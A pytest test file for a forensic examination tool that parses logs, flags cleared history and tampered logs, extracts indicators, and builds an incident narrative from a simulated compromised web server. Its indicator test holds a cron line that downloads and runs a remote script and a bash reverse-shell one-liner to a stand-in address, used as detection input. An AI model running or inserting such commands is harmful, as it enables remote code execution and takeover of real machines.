"""The examiner's notes: logs as timeline events, anti-forensics, timestamp anomalies, indicators, narrative.

Unit tests on log lines and texts, then the planted web server examined end to end (ext4 image
read by The Sleuth Kit), asserting what an examiner would write up.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from examiner.antiforensics import history_cleared
from examiner.indicators import IndicatorTable, ssh_fingerprint
from examiner.logs import log_kind, parse_access_log, parse_auth_log
from examiner.narrative import MEMORY_STAGE
from examiner.runner import DiskImage, ExaminationResult, examine_case
from examiner.timeline import BodyfileEntry
from simulation import disk_images

INCIDENT = datetime(2026, 3, 2, 14, 0, tzinfo=UTC)


def test_nginx_and_apache_combined_and_common_lines_become_web_events() -> None:
    text = (
        '198.51.100.23 - - [02/Mar/2026:14:00:00 +0000] "POST /upload.php HTTP/1.1" 200 31 "-" "python-requests/2.31"\n'
        '192.0.2.9 - alice [02/Mar/2026:15:30:05 +0100] "GET /index.html?a=b HTTP/1.0" 304 - "http://x/" "curl/8"\n'
        '10.0.0.1 - - [02/Mar/2026:14:10:00 +0000] "GET /robots.txt HTTP/1.1" 404 153\n'
        "garbage that is no log line\n"
    )
    parsed = parse_access_log(text, "/vol-1/p1", "/var/log/apache2/access.log")
    assert (parsed.lines, parsed.unparsed) == (4, 1)
    upload, apache, common = parsed.events
    assert upload.fields | {} == {
        "client": "198.51.100.23",
        "method": "POST",
        "target": "/upload.php",
        "status": 200,
        "bytes": 31,
        "agent": "python-requests/2.31",
        "referer": "-",
    }
    assert apache.time == datetime(2026, 3, 2, 14, 30, 5, tzinfo=UTC) and apache.fields["bytes"] == 0
    assert common.fields["status"] == 404 and common.fields["agent"] == "" and common.line == 3
    assert parsed.last_entry == apache.time


def test_access_and_auth_logs_are_recognised_by_name() -> None:
    assert [log_kind(p) for p in ("/var/log/nginx/access.log", "/var/log/httpd/access_log", "/var/log/auth.log")] == [
        "access",
        "access",
        "auth",
    ]
    assert log_kind("/var/log/nginx/access.log.2.gz") == "" and log_kind("/etc/access.log") == ""


def test_auth_log_lines_take_their_year_from_the_file_and_name_the_key() -> None:
    text = (
        "Dec 31 23:59:58 web-01 sshd[7]: Accepted publickey for root from 198.51.100.23 port 50522 ssh2: "
        "RSA SHA256:abc\n"
        "Jan  1 00:00:03 web-01 sshd[8]: Failed password for invalid user admin from 203.0.113.5 port 1 ssh2\n"
        "2026-01-01T00:01:00.5+00:00 web-01 sudo:   deploy : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh\n"
    )
    parsed = parse_auth_log(text, "/v/p1", "/var/log/auth.log", datetime(2026, 1, 1, 0, 5, tzinfo=UTC))
    accepted, failed, sudo = parsed.events
    assert accepted.time == datetime(2025, 12, 31, 23, 59, 58, tzinfo=UTC)
    assert (accepted.kind, accepted.fields["fingerprint"], accepted.fields["client"]) == (
        "auth-accepted",
        "SHA256:abc",
        "198.51.100.23",
    )
    assert failed.kind == "auth-failed" and failed.time.year == 2026 and failed.fields["user"] == "admin"
    assert sudo.kind == "sudo" and sudo.fields["command"] == "/bin/sh"


def _entry(path: str, size: int, mtime: int) -> BodyfileEntry:
    return BodyfileEntry("0", f"/v/p1{path}", "12", "r/rrw-------", 0, 0, size, mtime, mtime, mtime, mtime)


def test_a_history_ending_with_history_c_is_noted_and_one_without_is_not() -> None:
    entry = _entry("/root/.bash_history", 40, 1_700_000_000)
    noted = history_cleared(entry, "ls\ncurl http://x\nhistory -c\n")
    assert noted is not None and noted.kind == "history-cleared" and noted.evidence.endswith("line 3")
    assert "ends with `history -c`" in noted.summary
    assert history_cleared(entry, "ls\nmake\n") is None


def test_indicators_are_gathered_with_every_place_they_were_seen() -> None:
    table = IndicatorTable()
    table.scan_text("/v/p1", "/etc/cron.d/x", "* * * * * root curl -s http://203.0.113.66/k.sh | sh\n")
    table.scan_text("/v/p1", "/root/.bash_history", "cd /tmp\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n")
    table.scan_text("/v/p1", "/etc/hosts", "127.0.0.1 localhost\n10.0.0.5 db\n")
    table.scan_text("/v/p1", "/root/.ssh/authorized_keys", disk_images.ATTACKER_KEY.decode(), ssh_keys=True)
    found = {(i.kind, i.value): i for i in table.indicators()}
    address = found[("ipv4", "203.0.113.66")]
    assert [(s.path, s.line) for s in address.seen] == [("/etc/cron.d/x", 1), ("/root/.bash_history", 2)]
    assert ("reverse-shell", "203.0.113.66:4444") in found and ("url", "http://203.0.113.66/k.sh") in found
    assert not any(kind == "ipv4" and value.startswith(("127.", "10.")) for kind, value in found)
    assert not any(kind == "domain" and value == "k.sh" for kind, value in found)
    fingerprint = disk_images.openssh_fingerprint(disk_images.ATTACKER_KEY)
    assert ssh_fingerprint(disk_images.ATTACKER_KEY.split()[1].decode()) == fingerprint
    assert "root@kali" in found[("ssh-key", fingerprint)].note


@pytest.fixture(scope="module")
def examined(tmp_path_factory: pytest.TempPathFactory) -> ExaminationResult:
    work = tmp_path_factory.mktemp("notes")
    tree = disk_images.build_compromised_webserver_tree(work / "tree", INCIDENT)
    image = disk_images.build_ext4_image(tree, work / "vol-root.img", size_mib=64)
    window = (INCIDENT - timedelta(hours=20), INCIDENT + timedelta(hours=3))
    return examine_case([DiskImage(image, "vol-root")], None, work / "case", incident_window=window)


def test_the_planted_server_yields_initial_access_with_the_uploaded_shell_of_the_same_size(examined) -> None:
    [step] = [s for s in examined.notes.narrative if s.stage == "initial access"]
    assert step.time == INCIDENT
    assert "POST /upload.php from 198.51.100.23 (python-requests/2.31), status 200, 31 bytes" in step.summary
    assert (
        f"exactly 31 bytes appeared in the web root: /var/www/html/uploads/{disk_images.HOSTILE_NAME}" in step.summary
    )
    assert step.evidence[0].startswith("/vol-root/p0/var/log/nginx/access.log line 1")
    assert any(f.category == "initial-access" and f.path == "/var/log/nginx/access.log" for f in examined.findings)


def test_the_planted_server_yields_each_anti_forensic_act(examined) -> None:
    kinds = {(o.kind, o.path) for o in examined.notes.observations}
    assert kinds == {
        ("history-cleared", "/root/.bash_history"),
        ("log-modified-after-last-entry", "/var/log/nginx/access.log"),
        ("log-emptied", "/var/log/nginx/error.log"),
    }
    tampered = next(o for o in examined.notes.observations if o.kind == "log-modified-after-last-entry")
    assert "modified 9 minutes after its last entry" in tampered.summary


def test_timestamp_anomalies_count_children_born_after_their_directory_and_times_before_mkfs(examined) -> None:
    counts = examined.notes.anomaly_counts()
    born_late = {a.path for a in examined.notes.anomalies if a.kind == "born-after-parent-changed"}
    # /etc/cron.d last changed when the system was installed; sysupdate was born during the incident.
    assert "/etc/cron.d/sysupdate" in born_late and "/var/www/html/uploads/.cache.php" not in born_late
    facts = examined.notes.filesystems["/vol-root/p0"]
    assert facts.created_source == "superblock s_mkfs_time" and facts.created > INCIDENT
    # The image was made now and the builder wrote every time (lost+found's too) into the past.
    assert counts["older-than-filesystem"] == sum(1 for e in examined.entries if e.path != "/$OrphanFiles")


def test_the_narrative_runs_from_earliest_access_to_anti_forensics_with_the_shared_host(examined) -> None:
    # The disk's story; memory's step follows it (here: no memory image, and the narrative says so).
    *steps, memory = examined.notes.narrative
    assert memory.stage == MEMORY_STAGE and memory.summary.startswith("memory was not examined: no memory image")
    assert [s.time for s in steps] == sorted(s.time for s in steps if s.time)
    stages = [s.stage for s in steps]
    assert (
        stages[0] == "earliest access" and "/etc/passwd read, 30 minutes before the initial access" in steps[0].summary
    )
    assert stages.index("initial access") < stages.index("persistence") < stages.index("command and control")
    assert stages[-1] == "anti-forensics"
    [shared] = [s for s in steps if "reverse shell to 203.0.113.66:4444" in s.summary]
    assert "one address is both the download host and the reverse-shell target" in shared.summary
    [key] = [s for s in steps if "SSH key" in s.summary]
    assert "root@kali" in key.summary and "used to log in at 2026-03-02 14:10:00 UTC from 198.51.100.23" in key.summary


def test_indicator_table_holds_the_attackers_addresses_url_and_key(examined) -> None:
    values = {(i.kind, i.value) for i in examined.notes.indicators}
    assert {
        ("ipv4", "198.51.100.23"),
        ("ipv4", "203.0.113.66"),
        ("url", "http://203.0.113.66/k.sh"),
        ("reverse-shell", "203.0.113.66:4444"),
        ("domain", "pool.example.net"),
        ("ssh-key", disk_images.openssh_fingerprint(disk_images.ATTACKER_KEY)),
    } <= values
    assert ("ssh-key", disk_images.openssh_fingerprint(disk_images.LEGIT_KEY)) not in values
    assert Path(examined.outputs["notes.json"]).is_file()
